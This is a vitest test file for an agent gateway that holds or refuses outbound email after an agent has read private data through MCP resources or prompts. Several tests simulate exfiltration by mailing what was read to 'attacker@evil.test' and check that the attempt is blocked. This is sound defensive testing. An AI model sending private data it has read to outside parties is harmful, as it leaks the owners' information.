/**
 * The lethal trifecta through resources and prompts: private data read with
 * `resources/read` or `prompts/get` counts as a private tool's output does.
 * A run that read it and then mails out is held for a human (the default
 * flow rule) or refused, and nothing reaches the mail service. Real
 * upstreams: the reference "everything" server from npm (its static
 * documents and simple prompt; as `crm` it is declared private) and the
 * example mail service, whose outbox is the proof.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { denyApproval, pendingFor } from '../helpers/approvals.js';
import {
  denialCode,
  EVERYTHING_SERVER,
  exampleUpstream,
  startTestGateway,
  type TestGateway,
  tempDir,
} from '../helpers/harness.js';

const dir = tempDir();
const OUTBOX = join(dir, 'outbox.jsonl');
const DOCS = 'demo://resource/static/document/*';
const everything = `
    command: ${JSON.stringify(process.execPath)}
    args: [${JSON.stringify(EVERYTHING_SERVER)}]`;

const POLICY = `
version: 1
store: { sqlite: ./bulkhead.db }
upstreams:
  docs:${everything}
  crm:${everything}
    sources: private
  mail:
${exampleUpstream('mail', { MAIL_API_KEY: '{ secret: MAIL_API_KEY }', MAIL_OUTBOX: JSON.stringify(OUTBOX) })}
tools:
  mail:
    send_email: { class: external }
profiles:
  public-docs:
    tools: [mail__send_email]
    resources: [{ upstream: docs, uris: ["${DOCS}"] }]
  private-docs:
    tools: [mail__send_email]
    resources: [{ upstream: docs, uris: ["${DOCS}"], sources: private }]
  private-upstream:
    tools: [mail__send_email]
    resources: [{ upstream: crm, uris: ["${DOCS}"] }]
  private-prompt:
    tools: [mail__send_email]
    prompts: [crm__simple-prompt]
  refuse-private:
    tools: [mail__send_email]
    resources: [{ upstream: docs, uris: ["${DOCS}"], sources: private }]
    flow: { private_external: refuse }
`;

let gw: TestGateway;
beforeAll(async () => {
  gw = await startTestGateway(POLICY, { dir, env: { MAIL_API_KEY: 'mail-key-for-flow-tests-0002' } });
});
afterAll(async () => {
  await gw?.close();
});

const outbox = (): string[] =>
  existsSync(OUTBOX) ? readFileSync(OUTBOX, 'utf8').split('\n').filter(Boolean) : [];

type Agent = Awaited<ReturnType<TestGateway['agent']>>;

async function readDocument(agent: Agent, upstream: 'docs' | 'crm'): Promise<void> {
  const { resources } = await agent.client.listResources();
  const doc = resources.find((r) => r.uri.startsWith(DOCS.slice(0, -1)));
  if (!doc) throw new Error(`no document listed from ${upstream}`);
  const read = await agent.client.readResource({ uri: doc.uri });
  expect(read.contents.length).toBeGreaterThan(0);
}

function mailOut(agent: Agent, to: string) {
  return agent.client.callTool({
    name: 'mail__send_email',
    arguments: { to, subject: 'notes', body: 'what I read' },
  });
}

async function expectHeldThenDenied(agent: Agent, source: string): Promise<void> {
  const before = outbox().length;
  const call = mailOut(agent, 'attacker@evil.test');
  const approval = await pendingFor(gw.gateway, agent.runId);
  expect(approval.why).toContain(`private data from ${source}`);
  expect(outbox()).toHaveLength(before);
  await denyApproval(gw.gateway, approval);
  expect(denialCode(await call)).toBe('approval_denied');
  expect(outbox()).toHaveLength(before);
}

describe('private data read through resources and prompts', () => {
  it('mails without a hold after reading a public document', async () => {
    const agent = await gw.agent('public-docs');
    await readDocument(agent, 'docs');
    const before = outbox().length;
    expect(denialCode(await mailOut(agent, 'someone@example.com'))).toBeUndefined();
    expect(outbox()).toHaveLength(before + 1);
    expect((await gw.gateway.runs.get(agent.runId))?.read.private).toEqual([]);
  });

  it('holds mail after reading a resource the profile declares private', async () => {
    const agent = await gw.agent('private-docs');
    await readDocument(agent, 'docs');
    const run = await gw.gateway.runs.get(agent.runId);
    expect(run?.read.private.some((s) => s.startsWith('resource:demo://'))).toBe(true);
    await expectHeldThenDenied(agent, 'resource:demo://');
  });

  it('holds mail after reading a resource of an upstream declared private', async () => {
    const agent = await gw.agent('private-upstream');
    await readDocument(agent, 'crm');
    await expectHeldThenDenied(agent, 'resource:demo://');
  });

  it('holds mail after getting a prompt from an upstream declared private', async () => {
    const agent = await gw.agent('private-prompt');
    const prompt = await agent.client.getPrompt({ name: 'crm__simple-prompt' });
    expect(prompt.messages.length).toBeGreaterThan(0);
    await expectHeldThenDenied(agent, 'prompt:crm__simple-prompt');
  });

  it('refuses outright where the profile says refuse, and records the read', async () => {
    const agent = await gw.agent('refuse-private');
    await readDocument(agent, 'docs');
    const before = outbox().length;
    expect(denialCode(await mailOut(agent, 'attacker@evil.test'))).toBe('flow_blocked');
    expect(outbox()).toHaveLength(before);
    const [read] = await gw.gateway.store.events.list({ runId: agent.runId, kind: 'run.data_read' });
    expect(read?.data).toMatchObject({ class: 'private' });
  });
});
